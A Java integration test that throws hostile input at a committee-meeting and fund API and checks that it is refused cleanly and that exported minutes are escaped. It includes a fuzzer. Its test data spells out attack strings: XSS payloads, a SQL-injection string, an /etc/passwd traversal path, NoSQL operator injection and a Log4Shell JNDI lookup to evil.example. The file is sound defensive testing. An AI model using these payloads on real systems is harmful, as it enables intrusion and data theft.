package dk.referent.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.boot.test.autoconfigure.actuate.observability.AutoConfigureObservability;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

import com.fasterxml.jackson.databind.JsonNode;

import dk.referent.it.Api.Response;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.sessions.JqwikSession;

/**
 * Hostile input over a real socket: control characters, huge strings, malformed JSON, wrong types, unknown enum
 * values and fields get a clear 400 (field and message, no internals) and change nothing; exported minutes escape
 * user text; and a seeded fuzz over the request bodies of the command endpoints never gets a 5xx nor changes
 * anything with a refused request.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@AutoConfigureObservability
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest implements EmbeddedApp {

    /** Fuzz cases; -Dreferent.fuzz.cases and -Dreferent.fuzz.seed run more or others. */
    static final int CASES = Integer.getInteger("referent.fuzz.cases", 150);
    static final long SEED = Long.getLong("referent.fuzz.seed", 20241004L);

    @LocalServerPort
    int port;

    Api api;
    String committee;
    String chair;
    String meeting;
    String item;
    String action;
    String fund;
    String budget;

    @BeforeAll
    void world() {
        api = new Api("http://localhost:" + port, "admin", PASSWORD);
        committee = ok(api.post("/api/committees", Map.of("name", "Fuzzudvalget",
                "organisations", List.of("Aalborg Kommune", "Region Nordjylland")))).id();
        chair = ok(api.post("/api/committees/" + committee + "/members", Map.of("name", "Formand",
                "organisation", "Aalborg Kommune", "role", "CHAIR"))).id();
        meeting = ok(api.post("/api/meetings", Map.of("committeeId", committee, "title", "Møde",
                "startsAt", "2024-10-04T11:00:00+02:00", "mode", "HYBRID"))).id();
        item = ok(api.post("/api/meetings/" + meeting + "/agenda", Map.of("title", "Punkt", "kind", "DECISION",
                "visibility", "OPEN"))).id();
        action = ok(api.post("/api/meetings/" + meeting + "/agenda/" + item + "/actions",
                Map.of("description", "Opfølgning", "owner", "Sekretariatet"))).id();
        fund = ok(api.post("/api/funds", Map.of("committeeId", committee, "name", "Klyngemidler"))).id();
        ok(api.post("/api/funds/" + fund + "/contributions", Map.of("organisation", "Aalborg Kommune",
                "year", 2024, "amount", "1000000")));
        budget = ok(api.post("/api/funds/" + fund + "/budgets", Map.of("project", "Projekt",
                "amounts", List.of(Map.of("year", 2024, "amount", "1000"))))).id();
    }

    static Response ok(Response r) {
        assertThat(r.status()).as(r.toString()).isBetween(200, 299);
        return r;
    }

    /** What a refused request must leave as it was. */
    Map<String, Long> versions() {
        Map<String, Long> v = new LinkedHashMap<>();
        v.put("minutes", api.get("/api/meetings/" + meeting + "/minutes").json().path("version").asLong());
        v.put("fund", api.get("/api/funds/" + fund).json().path("version").asLong());
        v.put("committee", api.get("/api/committees/" + committee).json().path("version").asLong());
        return v;
    }

    static void assertClearRefusal(Response r, String what) {
        assertThat(r.status()).as(what + ": " + r).isBetween(400, 499);
        assertThat(r.header("Content-Type")).as(what).startsWith("application/problem+json");
        assertThat(r.json().path("title").asText()).as(what).isNotBlank();
        assertThat(r.body()).as(what).doesNotContain("Exception", "dk.referent", "java.", "org.springframework",
                "com.fasterxml", "\tat ", "trace");
    }

    static List<String> fields(Response r) {
        return r.json().path("errors").findValuesAsText("field");
    }

    // control characters, sizes, shapes

    @Test
    void controlCharactersAreRefusedWithTheFieldThatHoldsThem() {
        Map<String, Long> before = versions();
        String agenda = "/api/meetings/" + meeting + "/agenda";
        Response nul = api.post(agenda, Map.of("title", "Punkt\u0000", "kind", "DECISION", "visibility", "OPEN"));
        assertClearRefusal(nul, "NUL in a title");
        assertThat(nul.status()).isEqualTo(400);
        assertThat(fields(nul)).containsExactly("title");
        assertThat(nul.json().path("errors").get(0).path("message").asText()).contains("control characters");

        Response escape = api.post(agenda, Map.of("title", "Punkt", "kind", "DECISION", "visibility", "OPEN",
                "recommendations", List.of("fint", "\u001b[31mrødt"),
                "attachments", List.of(Map.of("title", "bilag\u0007", "url", "https://example.org"))));
        assertThat(escape.status()).isEqualTo(400);
        assertThat(fields(escape)).containsExactly("recommendations[1]");

        Response bell = api.post(agenda, Map.of("title", "Punkt", "kind", "DECISION", "visibility", "OPEN",
                "attachments", List.of(Map.of("title", "bilag\u0007", "url", "https://example.org"))));
        assertThat(fields(bell)).containsExactly("attachments[0].title");

        Response c1 = api.put("/api/meetings/" + meeting + "/agenda/" + item + "/decision",
                Map.of("text", "Godkendt\u0085", "outcome", "APPROVED", "baseRevision", 0));
        assertThat(fields(c1)).containsExactly("text");
        Response surrogate = api.post("/api/funds/" + fund + "/contributions",
                "{\"organisation\":\"Aalborg \\ud800Kommune\",\"year\":2024,\"amount\":\"1\"}");
        assertThat(surrogate.status()).as(surrogate.toString()).isEqualTo(400);
        assertThat(fields(surrogate)).containsExactly("organisation");
        assertThat(versions()).isEqualTo(before);

        // line breaks and tabs are text; so are letters of every script and emoji
        Response fine = api.post(agenda, Map.of("title", "Æblegrød 🍎 ½", "kind", "DECISION", "visibility", "OPEN",
                "caseDescription", "Første afsnit.\r\n\r\n\tAndet afsnit."));
        assertThat(fine.status()).as(fine.toString()).isEqualTo(201);
    }

    @Test
    void hugeStringsAndBodiesAreRefused() {
        Map<String, Long> before = versions();
        Response title = api.post("/api/meetings/" + meeting + "/agenda", Map.of("title", "x".repeat(501),
                "kind", "DECISION", "visibility", "OPEN"));
        assertClearRefusal(title, "a long title");
        assertThat(fields(title)).containsExactly("title");
        Response text = api.put("/api/meetings/" + meeting + "/agenda/" + item + "/decision",
                Map.of("text", "x".repeat(100_001), "outcome", "APPROVED", "baseRevision", 0));
        assertThat(fields(text)).containsExactly("text");
        Response organisation = api.post("/api/funds/" + fund + "/contributions",
                Map.of("organisation", "x".repeat(201), "year", 2024, "amount", "1"));
        assertThat(fields(organisation)).containsExactly("organisation");
        Response amount = api.post("/api/funds/" + fund + "/contributions",
                Map.of("organisation", "Aalborg Kommune", "year", 2024, "amount", "9".repeat(5000)));
        assertThat(fields(amount)).containsExactly("amount");
        Response body = api.post("/api/meetings/" + meeting + "/agenda", Map.of("title", "x",
                "kind", "DECISION", "visibility", "OPEN", "caseDescription", "x".repeat(1024 * 1024 + 1)));
        assertThat(body.status()).isEqualTo(413);
        assertThat(versions()).isEqualTo(before);
    }

    @Test
    void malformedJsonWrongTypesUnknownValuesAndFieldsAre400WithTheField() {
        Map<String, Long> before = versions();
        String agenda = "/api/meetings/" + meeting + "/agenda";
        assertClearRefusal(api.post(agenda, "{\"title\": "), "truncated JSON");
        assertClearRefusal(api.post(agenda, "not json at all"), "not JSON");
        assertClearRefusal(api.post(agenda, "[]"), "an array");
        assertClearRefusal(api.post(agenda, "null"), "null");
        assertClearRefusal(api.post(agenda, "[".repeat(5000)), "deep nesting");

        Response enumValue = api.post(agenda, Map.of("title", "x", "kind", "VOTE", "visibility", "OPEN"));
        assertClearRefusal(enumValue, "unknown enum");
        assertThat(fields(enumValue)).containsExactly("kind");
        assertThat(enumValue.json().path("errors").get(0).path("message").asText()).contains("DECISION");

        Response unknown = api.post(agenda, Map.of("title", "x", "kind", "DECISION", "visibility", "OPEN",
                "actor", "someone-else"));
        assertClearRefusal(unknown, "unknown field");
        assertThat(fields(unknown)).containsExactly("actor");

        Response object = api.post(agenda, Map.of("title", Map.of("$gt", ""), "kind", "DECISION",
                "visibility", "OPEN"));
        assertClearRefusal(object, "an object for a text");
        assertThat(fields(object)).containsExactly("title");

        Response year = api.post("/api/funds/" + fund + "/contributions",
                Map.of("organisation", "Aalborg Kommune", "year", "næste år", "amount", "1"));
        assertThat(fields(year)).containsExactly("year");
        Response revision = api.put("/api/meetings/" + meeting + "/agenda/" + item + "/decision",
                "{\"text\":\"x\",\"outcome\":\"APPROVED\",\"baseRevision\":99999999999999999999999}");
        assertThat(fields(revision)).containsExactly("baseRevision");
        Response share = api.post("/api/funds/" + fund + "/budgets", "{\"project\":\"p\",\"amounts\":[{\"year\":2024,"
                + "\"amount\":\"1\"}],\"split\":[{\"organisation\":\"Aalborg Kommune\",\"share\":1e999999999},"
                + "{\"organisation\":\"Region Nordjylland\",\"share\":0.5}]}");
        assertClearRefusal(share, "an enormous share");
        assertThat(fields(share)).contains("split[0].share");
        assertThat(versions()).isEqualTo(before);
    }

    @Test
    void exportedMinutesEscapeUserText() {
        String m = ok(api.post("/api/meetings", Map.of("committeeId", committee, "title", "<b>Møde</b>",
                "startsAt", "2024-10-04T11:00:00+02:00", "mode", "HYBRID"))).id();
        String i = ok(api.post("/api/meetings/" + m + "/agenda", Map.of("title", "<img src=x onerror=alert(1)>",
                "kind", "DECISION", "visibility", "OPEN",
                "recommendations", List.of("\"><svg onload=alert(2)>"),
                "attachments", List.of(Map.of("title", "bilag", "url", "javascript:alert(3)"))))).id();
        ok(api.put("/api/meetings/" + m + "/agenda/" + i + "/decision", Map.of("text",
                "<script>alert(1)</script>\n\n[klik](javascript:alert(4)) ## ikke en overskrift", "outcome",
                "APPROVED", "baseRevision", 0)));
        String html = api.get("/api/meetings/" + m + "/minutes.html").body();
        assertThat(html).doesNotContain("<script>", "<img", "<svg", "<b>Møde", "javascript:alert(3)\"",
                "href=\"javascript");
        assertThat(html).contains("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;");
        String md = api.get("/api/meetings/" + m + "/minutes.md").body();
        assertThat(md).doesNotContain("<script>", "<img", "<svg", "<javascript:")
                .doesNotContainPattern("(?<!\\\\)\\]\\(javascript:"); // an unescaped ](javascript: would be a link
        JsonNode minutes = api.get("/api/meetings/" + m + "/minutes").json();
        assertThat(minutes.path("items").get(0).path("decision").path("text").asText())
                .startsWith("<script>alert(1)</script>"); // stored as written: escaping is the renderer's job
    }

    // the fuzz

    /** A command endpoint with a valid body to start from. */
    record Target(String method, String path, Supplier<Map<String, Object>> body) {
    }

    List<Target> targets() {
        String m = "/api/meetings/" + meeting;
        String f = "/api/funds/" + fund;
        List<Target> t = new ArrayList<>();
        t.add(new Target("POST", "/api/committees", () -> map("name", "Udvalg", "organisations", List.of("A"))));
        t.add(new Target("POST", "/api/committees/" + committee + "/members", () -> map("name", "Ny", "title", "chef",
                "organisation", "Aalborg Kommune", "role", "MEMBER")));
        t.add(new Target("PUT", "/api/committees/" + committee + "/access/admin", () -> map("role", "OBSERVER")));
        t.add(new Target("POST", "/api/committees/" + committee + "/organisations",
                () -> map("organisation", "Ny kommune")));
        t.add(new Target("POST", "/api/users", () -> map("username", "u" + System.nanoTime(), "displayName", "U",
                "password", "long-enough-password")));
        t.add(new Target("POST", "/api/meetings", () -> map("committeeId", committee, "title", "Møde",
                "startsAt", "2024-10-04T11:00:00+02:00", "endsAt", "2024-10-04T12:00:00+02:00", "location", "Her",
                "mode", "VIRTUAL")));
        t.add(new Target("POST", m + "/agenda", () -> map("title", "Punkt", "kind", "DISCUSSION", "visibility",
                "OPEN", "timeSlot", "11-12", "presenter", "Formand", "recommendations", List.of("At godkende"),
                "caseDescription", "Sagen.", "economy", "Ingen.", "attachments",
                List.of(map("title", "Bilag", "url", "https://example.org/a.pdf")))));
        t.add(new Target("PATCH", m + "/agenda/" + item, () -> map("title", "Punkt", "kind", "DECISION",
                "recommendations", List.of("At godkende"), "caseDescription", "Sagen.")));
        t.add(new Target("POST", m + "/guests", () -> map("name", "Gæst", "title", "konsulent",
                "organisation", "Firma", "itemIds", List.of(item))));
        t.add(new Target("POST", m + "/apologies", () -> map("memberId", chair, "reason", "Ferie")));
        t.add(new Target("PUT", m + "/attendance/" + chair, () -> map("presence", "VIRTUAL")));
        t.add(new Target("POST", m + "/departures", () -> map("personId", chair, "note", "efter punkt 1")));
        t.add(new Target("PUT", m + "/agenda/" + item + "/decision", () -> map("text", "Godkendt.",
                "outcome", "APPROVED", "baseRevision", 0, "reason", "fordi")));
        t.add(new Target("POST", m + "/agenda/" + item + "/actions", () -> map("description", "Gør noget",
                "owner", "Sekretariatet", "due", "2024-12-01")));
        t.add(new Target("PATCH", m + "/actions/" + action, () -> map("status", "IN_PROGRESS")));
        t.add(new Target("POST", f + "/contributions", () -> map("organisation", "Region Nordjylland",
                "year", 2024, "amount", "1000")));
        t.add(new Target("POST", f + "/budgets", () -> map("project", "Projekt", "amounts",
                List.of(map("year", 2024, "amount", "100")), "responsibleOrganisation", "Aalborg Kommune",
                "split", List.of(map("organisation", "Aalborg Kommune", "share", 1)),
                "decision", map("meetingId", meeting, "itemId", item), "proposed", true)));
        t.add(new Target("POST", f + "/budgets/" + budget + "/adjustments", () -> map("amounts",
                List.of(map("year", 2024, "amount", "-1")), "reason", "Justering")));
        t.add(new Target("POST", f + "/expenditures", () -> map("budgetId", budget, "organisation",
                "Aalborg Kommune", "year", 2024, "amount", "1", "note", "Faktura")));
        return t;
    }

    static Map<String, Object> map(Object... kv) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < kv.length; i += 2) {
            m.put((String) kv[i], kv[i + 1]);
        }
        return m;
    }

    /** Text meant to break something: markup, query operators, SQL, paths, templates, odd Unicode. */
    static final List<Object> NASTY = List.of("<script>alert(1)</script>", Map.of("$gt", ""), "{\"$gt\":\"\"}",
            "'; drop table users; --", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "%00", "\u202eevil",
            "\uD800", "\u0000", "\u001b[2J", "\u007f", "x\u0085y", "", " ", "NaN", "-0.001", "1e999999999",
            "2024-13-45T99:99:99+25:00", "approved", "VOTE", "null", "true", "🍎".repeat(10), "\r\n\t");

    Object hostile(Random random, RandomGenerator<String> unicode) {
        return switch (random.nextInt(14)) {
            case 0 -> null;
            case 1 -> random.nextBoolean();
            case 2 -> random.nextLong();
            case 3 -> random.nextInt(3) == 0 ? 1e308 : -random.nextDouble();
            case 4 -> "x".repeat(random.nextBoolean() ? 501 : 100_001);
            case 5 -> List.of();
            case 6 -> List.of(unicode.next(random).value(), Map.of());
            case 7 -> Map.of();
            case 8 -> Map.of("nested", Map.of("deeper", List.of(1, "2", Map.of())));
            case 9 -> unicode.next(random).value();
            case 10 -> "Tekst" + (char) random.nextInt(0x20) + "mere";
            default -> NASTY.get(random.nextInt(NASTY.size()));
        };
    }

    /** A valid body with one thing wrong (or a few), or no body worth the name at all. */
    @SuppressWarnings("unchecked")
    Object mutate(Map<String, Object> body, Random random, RandomGenerator<String> unicode) {
        int how = random.nextInt(10);
        if (how == 0) {
            return switch (random.nextInt(5)) {
                case 0 -> "{\"" + body.keySet().iterator().next() + "\": ";
                case 1 -> "[1, 2, 3]";
                case 2 -> "\"" + unicode.next(random).value().replace("\\", "").replace("\"", "") + "\"";
                case 3 -> "{\"a\":" + "[".repeat(2000);
                default -> "{}";
            };
        }
        int changes = 1 + (random.nextInt(4) == 0 ? random.nextInt(3) : 0);
        for (int c = 0; c < changes; c++) {
            List<String> keys = new ArrayList<>(body.keySet());
            if (keys.isEmpty()) {
                keys.add("empty");
            }
            String key = keys.get(random.nextInt(keys.size()));
            switch (how) {
                case 1 -> body.remove(key);
                case 2 -> body.put("unknown" + random.nextInt(10), hostile(random, unicode));
                case 3 -> {
                    // inside a list of objects, if there is one
                    Object v = body.get(key);
                    if (v instanceof List<?> list && !list.isEmpty() && list.get(0) instanceof Map<?, ?> inner) {
                        Map<String, Object> copy = new HashMap<>((Map<String, Object>) inner);
                        String innerKey = new ArrayList<>(copy.keySet()).get(random.nextInt(copy.size()));
                        copy.put(innerKey, hostile(random, unicode));
                        body.put(key, List.of(copy));
                    } else {
                        body.put(key, hostile(random, unicode));
                    }
                }
                default -> body.put(key, hostile(random, unicode));
            }
        }
        return body;
    }

    @Test
    void fuzzedCommandBodiesNeverFailTheServerAndRefusalsChangeNothing() {
        Random random = new Random(SEED);
        List<Target> targets = targets();
        List<String> problems = new ArrayList<>();
        JqwikSession.start();
        try {
            Arbitrary<String> text = Arbitraries.oneOf(
                    Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(40),
                    Arbitraries.strings().all().ofMaxLength(20),
                    Arbitraries.strings().withChars("<>\"'&;{}$[]\\/%`#*_|").ofMaxLength(30));
            RandomGenerator<String> unicode = text.generator(1000);
            Map<String, Long> before = versions();
            int refused = 0;
            for (int n = 0; n < CASES; n++) {
                Target target = targets.get(random.nextInt(targets.size()));
                Object body = mutate(target.body().get(), random, unicode);
                Response r = api.send(target.method(), target.path(), body, Map.of());
                String what = "case " + n + " (seed " + SEED + "): " + target.method() + " " + target.path() + " "
                        + abbreviate(String.valueOf(body)) + " → " + abbreviate(r.toString());
                if (r.status() >= 500) {
                    problems.add("server error in " + what);
                    continue;
                }
                if (r.status() < 300 && hasControlCharacter(body)) {
                    problems.add("a control character was taken in " + what);
                }
                Map<String, Long> after = versions();
                if (r.status() >= 400) {
                    refused++;
                    if (!after.equals(before)) {
                        problems.add("refused but changed " + before + " → " + after + " in " + what);
                    }
                    if (!r.header("Content-Type").startsWith("application/problem+json")
                            || r.body().matches("(?s).*(Exception|dk\\.referent|java\\.|org\\.springframework|\\tat ).*")) {
                        problems.add("unclear refusal in " + what);
                    }
                }
                before = after;
            }
            assertThat(problems).isEmpty();
            assertThat(refused).as("most fuzzed bodies are refused").isGreaterThan(CASES / 2);
        } finally {
            JqwikSession.finish();
        }
    }

    static boolean hasControlCharacter(Object value) {
        if (value instanceof String text) {
            return text.chars().anyMatch(c -> Character.isISOControl(c) && c != '\n' && c != '\r' && c != '\t');
        } else if (value instanceof Map<?, ?> map) {
            return map.values().stream().anyMatch(HostileInputTest::hasControlCharacter);
        } else if (value instanceof List<?> list) {
            return list.stream().anyMatch(HostileInputTest::hasControlCharacter);
        }
        return false;
    }

    static String abbreviate(String s) {
        return s.length() <= 300 ? s : s.substring(0, 300) + "…(" + s.length() + ")";
    }
}
